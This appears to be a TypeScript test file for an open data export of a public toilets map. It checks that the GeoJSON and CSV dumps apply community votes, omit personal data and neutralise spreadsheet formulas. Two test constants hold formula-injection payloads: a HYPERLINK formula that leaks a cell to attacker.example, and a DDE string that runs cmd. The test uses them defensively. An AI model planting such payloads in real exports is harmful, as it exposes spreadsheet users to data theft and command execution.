// `npm run dump` (the real script in its own process): the merged data set with community decisions applied and no personal
// data, as gzip-compressed GeoJSON and CSV with the ODbL notice, served by the running server under /dumps/.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import { Clock, deviceId, importedData, moderate, operatorCommand, readSourceToilets, startService, type Data, type Service } from './support.js';

const VOTED = 'n2934493244'; // Porto: no source values
const GONE = 'n3191740661';
/** Text a spreadsheet would run: what a contributor may write in a name or operator. */
const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the map")';
const FORMULA_OPERATOR = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe('open data dump', () => {
  let data: Data;
  let s: Service;
  let dumpDir: string;
  let env: Record<string, string>;
  let formulaToilet: string;

  before(async () => {
    data = await importedData('porto');
    dumpDir = join(data.dir, 'dumps');
    env = { DUMP_DIR: dumpDir };
    s = await startService(data, new Clock(Date.parse('2026-06-15T10:00:00Z')), env);
    for (const [device, ip] of [[1, '192.0.2.1'], [2, '192.0.2.2']] as const) {
      const votes = [{ attribute: 'changing_table', value: 'yes' }, { attribute: 'name', value: 'Jardim WC' }, { attribute: 'operator', value: FORMULA_OPERATOR }];
      assert.equal((await s.post(`/api/v1/toilets/${VOTED}/votes`, { votes, device_id: deviceId(device) }, { ip })).status, 201);
      assert.equal((await s.post(`/api/v1/toilets/${VOTED}/ratings`, { rating: 3 + device, device_id: deviceId(device) }, { ip })).status, 201);
    }
    assert.equal((await moderate(data, ['gone', GONE, '--reason', 'demolished'], env)).status, 0);
    // west of Greenwich, so its longitude is negative
    const submitted = await s.post('/api/v1/submissions', { lat: 41.14575, lon: -8.61015, name: FORMULA_NAME });
    assert.equal(submitted.status, 201, JSON.stringify(submitted.json));
    formulaToilet = `c_${submitted.json.id.slice('sub_'.length)}`;
    assert.equal((await moderate(data, ['approve', submitted.json.id, '--reason', 'seen'], env)).status, 0);
  });
  after(async () => {
    await s.close();
    data.remove();
  });

  test('before any dump the files are 404', async () => {
    assert.equal((await s.get('/dumps/toilets.geojson.gz')).status, 404);
  });

  test('writes GeoJSON and CSV with decisions applied, gone toilets left out, no personal data; the server serves them', async () => {
    const run = operatorCommand('dump-cli', data, [], env);
    assert.equal(run.status, 0, run.stderr);
    const total = readSourceToilets(data.toiletsDb).length;
    assert.equal(run.stdout.trim(), `wrote ${total} toilets to ${dumpDir}`);

    const geojsonFile = readFileSync(join(dumpDir, 'toilets.geojson.gz'));
    const geojson = JSON.parse(gunzipSync(geojsonFile).toString('utf8'));
    assert.equal(geojson.type, 'FeatureCollection');
    assert.equal(geojson.license, 'ODbL-1.0');
    assert.match(geojson.notice, /Open Database\s+License \(ODbL\) 1\.0/);
    assert.equal(geojson.features.length, total);
    assert.ok(!geojson.features.some((f: { id: string }) => f.id === GONE));
    const voted = geojson.features.find((f: { id: string }) => f.id === VOTED);
    assert.equal(voted.geometry.type, 'Point');
    assert.equal(voted.properties.name, 'Jardim WC');
    assert.equal(voted.properties.changing_table, 'yes');
    assert.deepEqual(voted.properties.cleanliness, { average: 4.5, count: 2 });
    assert.deepEqual(voted.properties.provenance.decided.changing_table, { by: 'votes', votes_for: 2, votes_total: 2, as_of: '2026-06-15' });
    for (const key of ['open_now', 'closes_at', 'partner', 'directions', 'geo', 'lat', 'lon']) assert.ok(!(key in voted.properties), key);

    const csvFile = readFileSync(join(dumpDir, 'toilets.csv.gz'));
    const lines = gunzipSync(csvFile).toString('utf8').trimEnd().split('\r\n');
    assert.equal(lines.length, total + 1, 'every toilet but the gone one, the approved submission and the header');
    const header = lines[0].split(',');
    assert.deepEqual(header.slice(0, 4), ['id', 'lat', 'lon', 'name']);
    const row = Object.fromEntries(parseCsvLine(lines.find((line) => line.startsWith(`${VOTED},`))!).map((value, i) => [header[i], value]));
    assert.deepEqual([row.name, row.changing_table, row.cleanliness_average, row.cleanliness_count, row.decided], ['Jardim WC', 'yes', '4.5', '2', 'changing_table:votes;name:votes;operator:votes']);

    // formula-safe: text that a spreadsheet would run starts with ', numbers stay numbers
    const formula = Object.fromEntries(parseCsvLine(lines.find((line) => line.startsWith(`${formulaToilet},`))!).map((value, i) => [header[i], value]));
    assert.equal(formula.name, `'${FORMULA_NAME}`);
    assert.equal(formula.lon, '-8.61015', 'a negative longitude is a number, not text');
    assert.equal(formula.lat, '41.14575');
    assert.equal(parseCsvLine(lines.find((line) => line.startsWith(`${VOTED},`))!)[header.indexOf('operator')], `'${FORMULA_OPERATOR}`);
    const longitudes = lines.slice(1).map((line) => parseCsvLine(line)[header.indexOf('lon')]);
    assert.ok(longitudes.every((lon) => /^-\d+\.\d+$/.test(lon)), 'every Porto longitude is a plain negative number');
    const formulaFeature = geojson.features.find((f: { id: string }) => f.id === formulaToilet);
    assert.equal(formulaFeature.properties.name, FORMULA_NAME, 'GeoJSON carries the text as it is');

    const everything = gunzipSync(geojsonFile).toString() + gunzipSync(csvFile).toString();
    for (const personal of ['192.0.2.', deviceId(1), 'd:', 'demolished']) assert.ok(!everything.includes(personal), `${personal} is not in the dump`);

    const served = await fetch(`${s.url}/dumps/toilets.geojson.gz`);
    assert.equal(served.status, 200);
    assert.equal(served.headers.get('content-type'), 'application/gzip');
    assert.deepEqual(Buffer.from(await served.arrayBuffer()), geojsonFile);
    const notice = await fetch(`${s.url}/dumps/NOTICE.txt`);
    assert.match(await notice.text(), /OpenStreetMap contributors/);
    assert.equal((await s.get('/dumps/secrets.db')).status, 404);
  });
});

/** The fields of one RFC 4180 line (quoted fields may hold commas and doubled quotes). */
function parseCsvLine(line: string): string[] {
  return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, field]) => (field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field));
}
